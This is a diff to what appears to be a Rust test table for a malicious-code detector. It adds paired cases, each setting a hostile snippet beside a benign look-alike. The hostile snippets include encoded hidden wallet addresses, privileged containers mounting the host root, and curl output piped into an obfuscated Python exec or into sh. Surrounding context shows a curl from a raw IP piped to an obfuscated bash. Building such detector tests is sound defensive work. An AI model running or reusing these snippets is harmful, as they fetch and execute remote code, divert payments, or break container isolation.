@@ -522,6 +522,12 @@ const CASES: &[(&str, &str, &str, &str)] = &[
         "p=aGVsbG8gd29ybGQgZnJvbSBiYXNlNjQ=\necho $p | base64 -d > /tmp/p",
     ),
     (
+        "encoded-address",
+        "scripts/x.py",
+        "_r = base64.b64decode(\"MHg3YTI1MEQ1NjMwQjRjRjUzOTczOWRGMkM1ZEFjYjRjNjU5RjI0ODhE\").decode()",
+        "batch = base64.b64decode(\"MHg1YzUwNGVkNDMyY2I1MTEzOGJjZjA5YWE1ZThhNDEwZGQ0YTFlMjA0ZWY4NGJmZWQxYmUxNmRmYmExYjIyMDYw\").decode()",
+    ),
+    (
         "assembled-payload",
         "scripts/x.sh",
         "a=cu; b=rl\n$a$b -s http://91.92.242.30/x | ba''sh",
@@ -3967,6 +3973,52 @@ const WIDENED: &[(&str, &str, &str, &str)] = &[
         "tools/x.go",
         "resp, err := http.Get(url)\n_ = fetch(\"https://rules.example.net/apply.sh\", rules)\n_ = exec.Command(\"sh\", rules).Run()",
         "resp, err := http.Get(url)\n_ = fetch(\"https://rules.example.net/rules.yaml\", rules)\n_ = exec.Command(\"sh\", script, rules).Run()",
+    ),
+    // misses13: a payee hidden in hex as in base64 (a transaction hash is
+    // no address); the host's root mounted read-only is a metrics agent's
+    // unless the line or the spec runs it privileged; a `python3 -c` that
+    // only parses and prints what curl fetched, not one that runs it.
+    (
+        "encoded-address",
+        "scripts/x.js",
+        "const route = Buffer.from(\"307837613235304435363330423463463533393733396446324335644163623463363539463234383844\", \"hex\").toString();",
+        "const tx = Buffer.from(\"307835633530346564343332636235313133386263663039616135653861343130646434613165323034656638346266656431626531366466626131623232303630\", \"hex\").toString();",
+    ),
+    (
+        "container-escape",
+        "scripts/x.sh",
+        "docker run -d --privileged -v /:/host:ro quay.io/prometheus/node-exporter --path.rootfs=/host",
+        "docker run -d --net=host --pid=host -v /:/host:ro,rslave quay.io/prometheus/node-exporter --path.rootfs=/host",
+    ),
+    (
+        "container-escape",
+        "templates/docker-compose.yml",
+        "    volumes:\n      - '/:/host:rslave'",
+        "    volumes:\n      - '/:/host:ro,rslave'",
+    ),
+    (
+        "host-root-privileged",
+        "templates/docker-compose.yml",
+        "services:\n  agent:\n    image: ghcr.io/hostmetrics-pro/agent:latest\n    privileged: true\n    volumes:\n      - /:/host:ro",
+        "services:\n  agent:\n    image: ghcr.io/hostmetrics-pro/agent:latest\n    pid: host\n    volumes:\n      - /:/host:ro",
+    ),
+    (
+        "download-execute",
+        "scripts/x.sh",
+        "curl -s https://api.vendor-x.io/v1/onboard | python3 -c 'import json,sys; d=json.load(sys.stdin); getattr(__builtins__, \"ex\"+\"ec\")(d[\"c\"])'",
+        "curl -s https://api.vendor-x.io/v1/onboard | python3 -c 'import json,sys,os; d=json.load(sys.stdin); print(d[\"api_key\"])'",
+    ),
+    (
+        "download-execute",
+        "scripts/x.sh",
+        "curl -s https://api.vendor-x.io/v1/onboard | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"key\"])' | sh",
+        "curl -s https://api.vendor-x.io/v1/onboard | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"key\"])' | head -1",
+    ),
+    (
+        "download-execute",
+        "scripts/x.sh",
+        "sh -c \"$(curl -s https://api.vendor-x.io/v1/onboard | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"setup\"])')\"",
+        "TAG=$(curl -s https://api.github.com/repos/cli/cli/releases/latest | python3 -c \"import sys, json; print(json.load(sys.stdin)['tag_name'])\")",
     ),
 ];
 
